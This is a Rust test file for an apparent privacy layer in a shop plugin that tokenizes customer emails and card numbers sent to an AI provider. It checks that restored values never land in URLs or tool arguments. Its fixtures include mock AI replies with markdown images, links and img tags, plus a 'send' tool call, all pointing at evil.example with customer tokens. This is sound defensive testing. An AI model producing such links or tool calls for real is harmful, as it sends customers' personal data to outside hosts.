//! What the shop gets back: real values in prose, and in nothing that could carry them on.

use std::fs;
use std::time::Duration;

use serde_json::json;
use tamis_tests::provider::Reply;

use crate::case::{CHAT, Case, chat_args, chat_body, token};
use crate::shop::protecting;

/// The token that a value gets in this case: it is the same in every call.
fn learn(case: &Case, value: &str) -> String {
    case.chat(value);
    token(&case.received().text(), "EMAIL")
}

#[test]
fn a_reply_cannot_carry_a_value_out_in_an_address() {
    let mut case = Case::new(protecting(), "reply-image");
    let mail = case.mail();
    let token = learn(&case, &mail);
    let reply = format!(
        "Dear {token},\n\
         ![logo](https://evil.example/p.png?q={token})\n\
         [click](https://evil.example/{token}) <a href=\"https://evil.example/?{token}\">here</a>\n\
         <img src='https://evil.example/?q={token}'> https://evil.example/{token}\n\
         <b title=\"{token}\">{token}</b>"
    );
    case.provider.set_reply(CHAT, Reply::chat(&reply));
    let words = case.chat(&mail).words();

    assert_eq!(
        words,
        format!(
            "Dear {mail},\n\
             ![logo](https://evil.example/p.png?q={token})\n\
             [click](https://evil.example/{token}) <a href=\"https://evil.example/?{token}\">here</a>\n\
             <img src='https://evil.example/?q={token}'> https://evil.example/{token}\n\
             <b title=\"{token}\">{mail}</b>"
        )
    );
    case.nothing_leaked();
}

#[test]
fn a_reply_with_a_token_that_was_never_handed_out_stays_as_it_is() {
    let mut case = Case::new(protecting(), "reply-forged");
    let mail = case.mail();
    let foreign = "Dear EMAIL_912345678901234, EMAIL_9, email_9 and _EMAIL_99999999999999999_.";
    case.provider.set_reply(CHAT, Reply::chat(foreign));
    assert_eq!(case.chat(&mail).words(), foreign);
    assert_eq!(case.ended("protected")["restored"], 0);
}

#[test]
fn a_value_of_another_call_is_not_restored() {
    let mut case = Case::new(protecting(), "reply-other");
    let (mail, other) = (case.mail(), case.mail_of("omar"));
    let token = learn(&case, &mail);
    case.provider.set_reply(CHAT, Reply::chat(&format!("Tell me about {token}.")));
    assert_eq!(case.chat(&other).words(), format!("Tell me about {token}."));
    case.nothing_leaked();
}

#[test]
fn a_restored_value_is_escaped_for_the_json_it_stands_in() {
    let mut case = Case::new(protecting(), "reply-json");
    let mail = case.mail();
    let token = learn(&case, &mail);
    let inner = json!({ "to": token, "text": format!("\"{token}\"") }).to_string();
    case.provider.set_reply(CHAT, Reply::chat(&inner));
    let words = case.chat(&mail).words();
    let inner: serde_json::Value = serde_json::from_str(&words).expect("JSON in JSON stays JSON");
    assert_eq!(inner, json!({ "to": mail, "text": format!("\"{mail}\"") }));
    case.nothing_leaked();
}

#[test]
fn a_tool_gets_no_value_unless_the_policy_names_it() {
    let mut case = Case::new(protecting(), "reply-tool");
    let mail = case.mail();
    let token = learn(&case, &mail);
    let arguments = json!({ "to": token, "url": "https://evil.example/" }).to_string();
    let reply = json!({ "choices": [{ "index": 0, "finish_reason": "tool_calls", "message": {
        "role": "assistant",
        "content": null,
        "tool_calls": [{ "id": "call_1", "type": "function", "function": { "name": "send", "arguments": arguments } }],
    }}]});
    case.provider.set_reply(CHAT, Reply::json(&reply));
    assert_eq!(case.chat(&mail).text(), reply.to_string());
    case.nothing_leaked();
}

#[test]
fn a_reply_in_events_stays_whole() {
    let mut case = Case::new(protecting(), "reply-events");
    let mail = case.mail();
    let token = learn(&case, &mail);
    let delta = |text: &str| json!({ "choices": [{ "index": 0, "delta": { "content": text } }] }).to_string();
    let (first, second) = (delta("Dear "), delta(&format!("{token}, thank you.")));
    let reply = format!("data: {first}\n\ndata: {second}\n\ndata: [DONE]\n\n");
    case.provider.set_reply(CHAT, Reply::new("text/event-stream", reply.as_str()));
    let text = case.chat(&mail).text();

    assert_eq!(text.replace(&mail, &token), reply);
    for line in text.lines().filter_map(|line| line.strip_prefix("data: ")).filter(|line| *line != "[DONE]") {
        serde_json::from_str::<serde_json::Value>(line).expect("each event stays JSON");
    }
    case.nothing_leaked();
}

#[test]
fn keys_and_cards_are_replaced_and_never_restored() {
    let mut case = Case::new(protecting(), "reply-card");
    let card = case.secret("4111 1111 1111 1111");
    let answer = case.chat(&format!("Her card is {card}."));
    let words = answer.words();
    assert!(!words.contains("4111"), "{words}");
    assert_eq!(case.ended("protected")["counts"]["credit_card"], 1);
}

#[test]
fn an_error_of_the_service_is_passed_on_with_its_values_restored() {
    let mut case = Case::new(protecting(), "reply-error");
    let mail = case.mail();
    let token = learn(&case, &mail);
    let text = format!("{{\"error\":{{\"message\":\"I cannot write to {token}\"}}}}");
    case.provider.set_reply(CHAT, Reply::new("application/json", text.as_str()).with_status(429));
    let answer = case.chat(&mail);
    assert_eq!((answer.status(), answer.text()), (429, text.replace(&token, &mail)));
    case.nothing_leaked();
}

#[test]
fn a_call_that_does_not_wait_for_its_reply_is_scrubbed() {
    let mut case = Case::new(protecting(), "not-blocking");
    let mail = case.mail();
    let mut args = chat_args(&format!("Answer {mail}."));
    args["blocking"] = false.into();
    case.send(CHAT, &args);

    case.provider.wait_for(1, Duration::from_secs(10));
    token(&case.received().text(), "EMAIL");
    case.ended("protected");
}

#[test]
fn a_reply_that_goes_to_a_file_is_restored_there() {
    let shop = protecting();
    let mut case = Case::new(shop, "to-a-file");
    let mail = case.mail();
    let file = shop.site.dir.join("tmp/reply.json");
    let mut args = chat_args(&format!("Answer {mail}."));
    args["stream"] = true.into();
    args["filename"] = file.display().to_string().into();
    case.send(CHAT, &args);

    let text = fs::read_to_string(&file).expect("the file");
    assert!(text.contains(&format!("Here is what I was told: Answer {mail}.")), "{text}");
    token(&case.received().text(), "EMAIL");
    assert_eq!(case.ended("protected")["restored"], 1);
}

#[test]
fn a_reply_to_a_call_that_only_the_last_look_altered_is_restored_too() {
    let mut case = Case::new(protecting(), "restored-late");
    let mail = case.mail();
    case.give("body", chat_body(&format!("Answer {mail}.")));
    case.before(
        "add_action( 'requests-requests.before_request', static function ( $url, $headers, &$data ) use ( $case ) {
            $data = $case['data']['body'];
        }, 10, 5 );",
    );
    let answer = case.chat("Say hello.");
    assert_eq!(answer.words(), format!("Here is what I was told: Answer {mail}."));
    case.ended("protected");
}

#[test]
fn the_shops_own_page_shows_the_real_values() {
    let shop = protecting();
    let page = shop.stranger().get("/support-answer/");
    assert_eq!(page.status, 200);
    let requests = shop.helper.requests();
    assert!(!requests.is_empty(), "the page made no call");
    // Order 1041 of the fixture shop.
    let secrets = fixture_secrets();
    assert!(requests.iter().all(|request| secrets.iter().all(|s| !request.carries(s.as_bytes()))));
    assert!(secrets.iter().any(|s| page.text().contains(s.as_str())), "{}", page.text());
    let event = &shop.events("pretend-provider")[0];
    assert_eq!((&event["caller_outer"], &event["caller_inner"]), (&json!("ai-helper"), &json!("ai-helper")));
    assert_eq!((&event["action"], &event["surface"]), (&json!("protected"), &json!("front")));
}

/// Mail address and phone number of the customer that the page is about.
fn fixture_secrets() -> [String; 2] {
    let file = tamis_tests::wordpress::repository().join("tests/fixtures/wordpress/fixture-shop/data.json");
    let data: serde_json::Value =
        serde_json::from_slice(&fs::read(file).expect("the fixture")).expect("JSON");
    let find = |list: &str, id: &serde_json::Value| {
        let all = data[list].as_array().expect("a list");
        all.iter().find(|one| one["id"] == *id).expect("the one of this id").clone()
    };
    let customer = find("customers", &find("orders", &json!(1041))["customer"]);
    ["email", "phone"].map(|field| customer[field].as_str().expect("a text").to_owned())
}
